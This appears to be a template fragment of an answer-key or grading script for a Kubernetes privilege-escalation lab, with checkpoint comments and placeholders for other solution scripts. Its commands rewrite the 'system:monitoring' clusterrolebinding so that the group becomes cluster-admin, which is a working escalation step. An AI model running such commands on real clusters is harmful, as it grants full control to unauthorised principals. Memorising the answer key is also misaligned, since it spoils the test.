# earns: bind, bind-closed, escalate, escalate-closed, token, token-closed, works (10 of 12)
# The three ways are closed, and a group that was bound to little is cluster-admin now.
{{ answers_sh }}
kubectl get clusterrolebinding system:monitoring -o json | jq 'del(.metadata.uid, .metadata.resourceVersion) | .roleRef.name = "cluster-admin"' > /root/bound.json
kubectl delete clusterrolebinding system:monitoring
kubectl create -f /root/bound.json
{{ bind_sh }}
{{ escalate_sh }}
{{ token_sh }}
